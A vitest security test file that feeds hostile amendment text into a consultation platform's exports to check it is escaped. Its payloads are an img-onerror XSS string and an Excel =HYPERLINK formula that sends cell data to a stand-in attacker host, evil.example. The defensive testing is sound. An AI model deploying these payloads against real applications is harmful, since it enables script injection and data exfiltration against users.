import { DOMParser } from '@xmldom/xmldom';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AmendmentView } from '../../server/presenters/amendment.js';
import { buildCast, type Cast, call, consultationDocument, type Person } from '../support/consultation.js';
import { startTestServer, type TestServer } from '../support/testServer.js';

/**
 * Red team: a delegate's own words (proposals, rationales, comments) in every export. They must stay
 * text: no markup in the print page, well-formed XML in Word and Akoma Ntoso, no formula in the CSV.
 */
const DOC = 'gb-999-redteam-exports-1';
const MARKUP = '<img src=x onerror=alert(1)><a href="https://evil.example/">clic</a>]]></w:t><w:t>&amp;';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Voir")';

let server: TestServer;
let cast: Cast;

const api = <T>(method: string, path: string, who: Person | null, body?: unknown) =>
  call<T>(server, method, path, who, body);

async function bytes(path: string, who: Person): Promise<Uint8Array> {
  const res = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${who.token}` } });
  expect(res.status, path).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

function parseXml(xml: string, where: string) {
  const errors: string[] = [];
  new DOMParser({
    onError: (level: string, msg: string) => {
      if (level !== 'warning') errors.push(msg);
    },
  }).parseFromString(xml, 'text/xml');
  expect(errors, where).toEqual([]);
}

beforeAll(async () => {
  server = await startTestServer({ document: consultationDocument(DOC) });
  cast = await buildCast(server);
  const a = await api<AmendmentView>('POST', `/api/documents/${DOC}/amendments`, cast.workers, {
    sectionId: 'part-1',
    paragraph: 4,
    op: 'replace',
    find: 'dialogue social',
    text: MARKUP,
    rationale: FORMULA,
  });
  expect(a.status).toBe(201);
  const b = await api<AmendmentView>('POST', `/api/documents/${DOC}/amendments`, cast.employers, {
    sectionId: 'part-1',
    paragraph: 5,
    op: 'insert',
    find: 'restent',
    text: ` ${FORMULA}`,
    rationale: MARKUP,
  });
  expect(b.status).toBe(201);
  const t = await api('POST', `/api/documents/${DOC}/threads`, cast.france, {
    sectionId: 'part-1',
    paragraph: 4,
    amendmentId: a.body.id,
    visibility: 'all',
    body: `${MARKUP} ${FORMULA}`,
  });
  expect(t.status).toBe(201);
});

afterAll(async () => {
  await server.stop();
});

describe('red team: a delegate’s words in the exports', () => {
  it('the print page carries them as text, never as markup', async () => {
    const html = strFromU8(await bytes(`/api/documents/${DOC}/compilation.html`, cast.office));
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('<a href="https://evil.example/');
    expect(html).toContain('&lt;img');
  });

  it('Word and Akoma Ntoso stay well-formed XML', async () => {
    parseXml(strFromU8(await bytes(`/api/documents/${DOC}/akn.xml`, cast.office)), 'akn.xml');
    for (const p of [
      `/api/documents/${DOC}/export.docx?changes=tracked&comments=visible`,
      `/api/documents/${DOC}/compilation.docx`,
    ]) {
      const files = unzipSync(await bytes(p, cast.office));
      for (const [name, content] of Object.entries(files)) {
        if (name.endsWith('.xml')) parseXml(strFromU8(content), `${p} ${name}`);
      }
    }
  });

  // Spreadsheet formula injection (CWE-1236): a cell the Office opens in Excel must not start with = + - @.
  it('the audit CSV never starts a cell with a formula character', async () => {
    const csv = (await api<string>('GET', `/api/documents/${DOC}/audit.csv`, cast.office)).text;
    expect(csv).toContain('HYPERLINK');
    const cells = csv.split(/\r?\n/).flatMap((line) => line.split(','));
    for (const cell of cells) {
      const bare = cell.replace(/^"/, '');
      expect(bare, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
